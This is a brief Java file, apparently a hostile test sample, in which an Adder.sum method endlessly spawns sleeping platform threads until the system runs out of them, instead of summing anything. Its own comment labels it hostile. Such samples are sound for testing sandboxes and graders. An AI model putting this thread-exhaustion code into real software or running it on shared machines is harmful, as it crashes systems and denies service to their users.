package adder;

/** Hostile: starts platform threads that never end until no more can start. */
public final class Adder {
    private Adder() {
    }

    public static int sum(int[] xs) {
        while (true) {
            Thread.ofPlatform().daemon().start(() -> {
                try {
                    Thread.sleep(Long.MAX_VALUE);
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                }
            });
        }
    }
}
